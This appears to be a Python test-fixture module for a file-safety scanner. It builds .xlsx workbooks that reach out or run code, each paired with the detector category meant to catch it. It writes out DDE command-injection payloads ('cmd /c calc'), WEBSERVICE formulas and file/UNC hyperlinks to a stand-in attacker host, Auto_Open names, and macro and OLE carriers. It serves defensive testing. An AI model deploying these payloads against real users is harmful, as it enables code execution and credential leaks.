"""Workbooks that act."""

from collections.abc import Callable
from functools import partial

from lienthong.kernel.files import acting, packages
from lienthong.kernel.files.tests.made import Made, X, sheet

from .nature import EVIL, Nature, made_by
from .words import MS, OLE

NAMES = f'xmlns="{X}"'


def formula(text: str, element: str = "f") -> Made:
    return sheet(f'<row r="1"><c r="A1"><{element}>{text}</{element}><v>1</v></c></row>')


def named(name: str, text: str) -> Made:
    return sheet(
        more=f'<definedNames><definedName name="{name}">{text}</definedName></definedNames>'
    )


def carried(
    name: str, content: str | bytes, kind: str, content_type: str = "application/xml"
) -> Made:
    made = sheet()
    made.part(name, content, content_type, kind=kind)
    return made


def links(inside: str) -> Made:
    return carried(
        "xl/externalLinks/e1.xml", f"<externalLink {NAMES}>{inside}</externalLink>", "externalLink"
    )


def outside(kind: str, target: str) -> Made:
    made = sheet()
    made.outside(kind, target, "xl/worksheets/sheet1.xml")
    return made


def _nature(name: str, carries: str, caught_by: str, *makers: Callable[[], Made]) -> Nature:
    return Nature(name, carries, caught_by, ".xlsx", made_by(*makers))


_REACHING = (
    f"WEBSERVICE(&quot;http://{EVIL}&quot;)", "_xlfn.IMAGE(A1)", "RTD(A1)", "CALL(A1)", "REGISTER.ID(A1)",
    "_xlfn._xlws.PY(0,1)", "STOCKHISTORY(A1)", "CUBEVALUE(A1)", "cmd|' /c calc'!A0", "[1]Sheet1!A1", "'[a.xlsx]Tháng 1'!A1",
    f"HYPERLINK(&quot;file://{EVIL}&quot;)", f"HYPERLINK(&quot;\\\\{EVIL}\\a&quot;)",
)  # fmt: skip

NATURES = [
    _nature("formula that reaches out", "WEBSERVICE, IMAGE, RTD, CALL, DDE, other workbooks", acting.FORMULA,
            *(partial(formula, text) for text in _REACHING)),
    _nature("format or name that reaches out", "conditions, checks and names", acting.FORMULA,
            *(partial(formula, f"WEBSERVICE(&quot;{EVIL}&quot;)", one) for one in ("formula", "formula1", "formula2")),
            partial(named, "a", "[2]S!$A$1")),
    _nature("name that starts by itself", "Auto_Open", packages.MACROS,
            partial(named, "Auto_Open", "S!$A$1"), partial(named, "_xlnm.Auto_Open", "S!$A$1")),
    _nature("DDE link of a workbook", "ddeLink, oleLink", acting.DATA,
            partial(links, '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'), partial(links, "<oleLink/>")),
    _nature("other workbook", "externalLink", acting.DATA, partial(links, '<externalBook/>')),
    _nature("connection", "connections.xml", acting.DATA,
            partial(carried, "xl/connections.xml", f'<connections {NAMES}><connection id="1"/></connections>', "connections")),
    _nature("query", "queryTable", acting.DATA,
            partial(carried, "xl/queryTables/q.xml", f"<queryTable {NAMES}/>", "queryTable")),
    _nature("data model", "a model fed from elsewhere", acting.DATA,
            partial(carried, "xl/model/item.data", b"<a/>", f"{MS}/2010/relationships/model")),
    _nature("macro sheet", "Excel 4 macros, dialog sheets", packages.MACROS,
            partial(carried, "xl/macrosheets/m.xml", f"<macrosheet {NAMES}/>", f"{MS}/2006/relationships/xlMacrosheet"),
            partial(carried, "xl/dialogsheets/m.xml", f"<dialogsheet {NAMES}/>", "dialogsheet")),
    _nature("object in a workbook", "oleObject, ActiveX", acting.OBJECTS,
            partial(carried, "xl/embeddings/o.bin", OLE, "oleObject"), partial(carried, "xl/ctrl.xml", "<a/>", "control")),
    _nature("drawing of a workbook that runs a macro", "macro of a shape", acting.BUTTONS,
            partial(carried, "xl/drawings/d.xml", '<d:sp xmlns:d="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" macro="[0]!x"/>', "drawing")),
    _nature("button of a workbook", "FmlaMacro, controlPr", acting.BUTTONS,
            partial(carried, "xl/drawings/v.vml", '<xml xmlns:x="urn:schemas-microsoft-com:office:excel"><x:FmlaMacro>[0]!a</x:FmlaMacro></xml>', "vmlDrawing"),
            partial(carried, "xl/c.xml", f'<controlPr {NAMES} macro="[0]!a"/>', "ctrlProp")),
    _nature("link of a workbook to a file", "hyperlink to file:, a share", acting.LINK,
            partial(outside, "hyperlink", f"file://{EVIL}/a"), partial(outside, "hyperlink", f"\\\\{EVIL}\\a")),
    _nature("picture of a workbook from the web", "image, External", acting.PICTURE, partial(outside, "image", f"http://{EVIL}")),
]  # fmt: skip
